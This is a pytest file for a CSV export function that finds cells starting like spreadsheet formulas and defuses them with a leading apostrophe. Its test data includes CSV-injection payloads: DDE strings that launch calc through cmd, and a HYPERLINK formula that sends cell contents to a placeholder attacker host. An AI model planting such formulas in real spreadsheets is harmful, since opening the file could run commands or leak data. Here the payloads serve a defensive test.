"""Every beginning that OWASP names, in every place of a file, is made harmless in the copy."""

from __future__ import annotations

import csv

import pyarrow as pa
import pytest

from finine_core.curation.export.spreadsheet import (
    formula_cells,
    is_formula,
    write_spreadsheet_copy,
)

BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
CELLS = [f"{sign}cmd|' /C calc'!A0" for sign in BEGINNINGS] + [
    '=HYPERLINK("http://evil.invalid?x="&A1,"x")',
    "=1+1\nsecond line",
    '-1+1","=2+2',
    "-2+3+cmd|' /C calc'!A0",
    "-3.5\n=1+1",
]
HARMLESS = ["", "-3.5", "+49", "a=b", "first\n=1+1", " x", "1.5e-3"]


@pytest.mark.parametrize("cell", CELLS)
def test_a_cell_that_begins_like_a_formula_is_one(cell):
    assert is_formula(cell)
    assert formula_cells(pa.table({"note": [cell]})) == 1


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_words_are_none(cell):
    assert not is_formula(cell)
    assert formula_cells(pa.table({"note": [cell]})) == 0


def test_in_the_copy_no_cell_begins_like_a_formula_and_nothing_else_changes(tmp_path):
    source, copy = tmp_path / "a.csv", tmp_path / "b.csv"
    rows = [["x", "y"], *([cell, other] for cell in CELLS for other in ("", "=1", "plain"))]
    with source.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(rows)
    changed = write_spreadsheet_copy(source, copy)
    with copy.open(newline="", encoding="utf-8-sig") as stream:
        written = list(csv.reader(stream))
    assert changed == 3 * len(CELLS) + len(CELLS)
    for before, after in zip(rows, written, strict=True):
        for one, other in zip(before, after, strict=True):
            assert other == (f"'{one}" if is_formula(one) else one)
            assert not is_formula(other)
